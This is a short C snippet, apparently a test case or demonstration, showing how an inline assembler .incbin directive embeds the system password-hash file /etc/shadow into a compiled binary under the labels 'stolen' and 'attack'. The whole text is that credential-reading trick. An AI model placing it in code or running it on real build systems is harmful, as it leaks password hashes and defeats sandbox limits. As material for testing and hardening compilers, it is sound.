// Any file at compile time, by the assembler.
asm(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n");
static void attack() {}
